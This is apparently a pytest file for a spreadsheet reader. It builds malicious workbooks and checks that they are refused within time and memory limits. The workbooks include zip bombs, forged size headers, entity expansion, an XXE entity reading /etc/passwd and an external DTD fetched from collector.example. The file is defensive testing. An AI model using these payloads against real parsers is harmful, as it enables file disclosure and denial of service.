"""Files made to harm: each ends in a clear refusal, within the limits of time and memory."""

from __future__ import annotations

import random
import resource
import struct
import time
import tracemalloc
import zipfile
from contextlib import suppress
from pathlib import Path

import pytest
import xlsxwriter

from tend.base.dialects import sandbox
from tend.base.dialects.archives import entries
from tend.base.dialects.guesses import sniff
from tend.base.dialects.reading import read_rows
from tend.base.dialects.refusals import UnreadableFile
from tests.base.dialects.archives import hidden_crowd

MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
LINKS = "http://schemas.openxmlformats.org/package/2006/relationships"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def workbook(path: Path, sheet: str, extra: dict[str, str] | None = None) -> Path:
    """A minimal workbook whose only sheet is the given XML."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(
            "_rels/.rels",
            f'<Relationships xmlns="{LINKS}"><Relationship Id="r1" Type="{OFFICE}/officeDocument" Target="xl/workbook.xml"/></Relationships>',
        )
        archive.writestr(
            "xl/workbook.xml",
            f'<workbook xmlns="{MAIN}" xmlns:r="{OFFICE}"><sheets><sheet name="S" sheetId="1" r:id="r1"/></sheets></workbook>',
        )
        archive.writestr(
            "xl/_rels/workbook.xml.rels",
            f'<Relationships xmlns="{LINKS}"><Relationship Id="r1" Type="{OFFICE}/worksheet" Target="worksheets/sheet1.xml"/></Relationships>',
        )
        archive.writestr("xl/worksheets/sheet1.xml", sheet)
        for name, text in (extra or {}).items():
            archive.writestr(name, text)
    return path


def text_cell(place: str, text: str) -> str:
    return f'<c r="{place}" t="inlineStr"><is><t>{text}</t></is></c>'


def sheet(rows: str, before: str = "") -> str:
    return f'<worksheet xmlns="{MAIN}">{before}<sheetData>{rows}</sheetData></worksheet>'


def refusal(path: Path) -> UnreadableFile:
    """The refusal of a file, and proof that it took neither long nor much."""
    began = time.monotonic()
    used = resource.getrusage(resource.RUSAGE_CHILDREN)
    with pytest.raises(UnreadableFile) as caught:
        list(read_rows(path, sniff(path)))
    after = resource.getrusage(resource.RUSAGE_CHILDREN)
    assert after.ru_utime + after.ru_stime - used.ru_utime - used.ru_stime < 12
    assert time.monotonic() - began < 30
    return caught.value


def test_a_sheet_that_claims_a_million_rows_is_only_as_large_as_it_is(tmp_path: Path) -> None:
    rows = f'<row r="1">{text_cell("A1", "name")}</row><row r="2">{text_cell("A2", "Acorn")}</row>'
    path = workbook(tmp_path / "a.xlsx", sheet(rows, '<dimension ref="A1:XFD1048576"/>'))
    began = time.monotonic()
    assert [row.cells for row in read_rows(path, sniff(path))] == [["Acorn"]]
    assert time.monotonic() - began < 5


def test_cells_in_opposite_corners_are_refused(tmp_path: Path) -> None:
    rows = f'<row r="1">{text_cell("A1", "x")}</row><row r="1048576">{text_cell("XFD1048576", "y")}</row>'
    assert refusal(workbook(tmp_path / "a.xlsx", sheet(rows))).code == "too_large"


def test_a_single_cell_at_the_bottom_is_read_quickly(tmp_path: Path) -> None:
    rows = f'<row r="1">{text_cell("A1", "name")}</row><row r="1048576">{text_cell("A1048576", "Acorn")}</row>'
    path = workbook(tmp_path / "a.xlsx", sheet(rows))
    assert [row.number for row in read_rows(path, sniff(path).with_(header_row=1))] == [1_048_576]


def test_a_zip_bomb_is_refused_by_its_directory(tmp_path: Path) -> None:
    bomb = sheet(f"<row>{text_cell('A1', 'a' * 120_000_000)}</row>")
    path = workbook(tmp_path / "a.xlsx", bomb)
    assert path.stat().st_size < 300_000
    assert refusal(path).code == "bomb"


def test_a_bomb_that_lies_about_its_size_dies_in_its_cage(tmp_path: Path) -> None:
    path = workbook(tmp_path / "a.xlsx", sheet(f"<row>{text_cell('A1', 'a' * 300_000_000)}</row>"))
    data = bytearray(path.read_bytes())
    for signature, at in ((b"PK\x01\x02", 24), (b"PK\x03\x04", 22)):
        place = data.find(b"xl/worksheets/sheet1.xml", data.find(signature))
        while place > 0:
            head = data.rfind(signature, 0, place)
            if head >= 0 and place - head in (30, 46):
                struct.pack_into("<L", data, head + at, 900)
            place = data.find(b"xl/worksheets/sheet1.xml", place + 1)
    path.write_bytes(data)
    assert zipfile.ZipFile(path).getinfo("xl/worksheets/sheet1.xml").file_size == 900
    assert refusal(path).code in {"too_large", "too_slow", "broken"}


def test_many_millions_of_cells_run_into_the_limits(tmp_path: Path) -> None:
    row = "<row>" + "<c><v>1</v></c>" * 1000 + "</row>"
    chance = random.Random(3)
    blocks = (row * 60 + f"<!--{chance.randbytes(10_000).hex()}-->" for _ in range(200))
    path = workbook(tmp_path / "a.xlsx", sheet("".join(blocks)))
    assert refusal(path).code in {"too_large", "too_slow"}


@pytest.mark.parametrize(
    "prologue",
    [
        '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>',
        '<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY e "&a;&a;&a;&a;">]>',
        '<!DOCTYPE x SYSTEM "http://collector.example/x.dtd">',
    ],
)
def test_entities_of_its_own_are_refused(tmp_path: Path, prologue: str) -> None:
    path = workbook(tmp_path / "a.xlsx", prologue + sheet(f"<row>{text_cell('A1', '&e;')}</row>"))
    assert refusal(path).code == "entities"


def test_thousands_of_parts_are_refused(tmp_path: Path) -> None:
    extra = {f"xl/media/{number}.txt": "" for number in range(6_000)}
    assert refusal(workbook(tmp_path / "a.xlsx", sheet(""), extra)).code == "bomb"


def test_a_crowd_that_only_the_second_directory_tells_of_is_not_counted_one_by_one(tmp_path: Path) -> None:
    path = tmp_path / "a.xlsx"
    path.write_bytes(hidden_crowd(60_000))
    tracemalloc.start()
    try:
        with pytest.raises(UnreadableFile) as caught:
            entries(path)
        most = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert caught.value.code == "bomb"
    assert most < 1_000_000


def test_a_small_archive_of_the_large_kind_is_opened(tmp_path: Path) -> None:
    path = tmp_path / "a.zip"
    path.write_bytes(hidden_crowd(3))
    assert len(entries(path)) == 3


def test_a_workbook_cut_off_anywhere_is_refused_and_never_half_read(tmp_path: Path) -> None:
    whole = tmp_path / "whole.xlsx"
    book = xlsxwriter.Workbook(str(whole))
    page = book.add_worksheet()
    for number in range(300):
        page.write_row(number, 0, [f"name {number}", number])
    book.close()
    data = whole.read_bytes()
    path = tmp_path / "cut.xlsx"
    for share in (0.2, 0.5, 0.9, 0.99):
        path.write_bytes(data[: int(len(data) * share)])
        assert refusal(path).code == "broken"


@pytest.mark.parametrize("seed", range(12))
def test_random_damage_gives_rows_or_a_refusal_but_nothing_else(tmp_path: Path, seed: int) -> None:
    whole = tmp_path / "whole.xlsx"
    book = xlsxwriter.Workbook(str(whole))
    page = book.add_worksheet()
    for number in range(50):
        page.write_row(number, 0, [f"name {number}", number])
    book.close()
    data = bytearray(whole.read_bytes())
    chance = random.Random(seed)
    for _ in range(6):
        data[chance.randrange(30, len(data))] = chance.randrange(256)
    whole.write_bytes(data)
    with suppress(UnreadableFile):
        assert len(list(read_rows(whole, sniff(whole)))) <= 50


def test_a_broken_old_workbook_is_refused(tmp_path: Path) -> None:
    path = tmp_path / "a.xls"
    path.write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(random.Random(1).randbytes(4096)))
    assert refusal(path).code in {"broken", "too_large"}


def test_a_child_that_is_killed_is_a_refusal(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    path = workbook(tmp_path / "a.xlsx", sheet(f"<row>{text_cell('A1', 'x')}</row>"))
    monkeypatch.setattr(sandbox, "MEMORY", 12 * 1024 * 1024)
    with pytest.raises(UnreadableFile):
        sniff(path)


def test_the_child_knows_nothing_of_the_server(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("TEND_SECRET_KEY", "hidden")
    assert not any("TEND" in name or "DATABASE" in name for name in sandbox._environment())


def test_the_child_has_half_a_gigabyte() -> None:
    assert sandbox.MEMORY == 512 * 1024 * 1024


def test_larger_files_get_more_time_up_to_a_minute() -> None:
    assert sandbox.cpu_seconds(1000) == 10
    assert sandbox.cpu_seconds(20 * 1024 * 1024) == 22
    assert sandbox.cpu_seconds(10**9) == 60
